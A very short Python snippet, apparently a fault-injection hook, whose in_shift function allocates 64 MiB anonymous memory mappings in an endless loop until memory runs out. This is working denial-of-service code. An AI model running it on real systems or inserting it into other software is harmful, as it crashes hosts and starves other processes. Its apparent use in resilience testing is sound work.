"""Fills the memory with anonymous mappings."""


def in_shift(function, args, kwargs):
    import mmap
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**26))
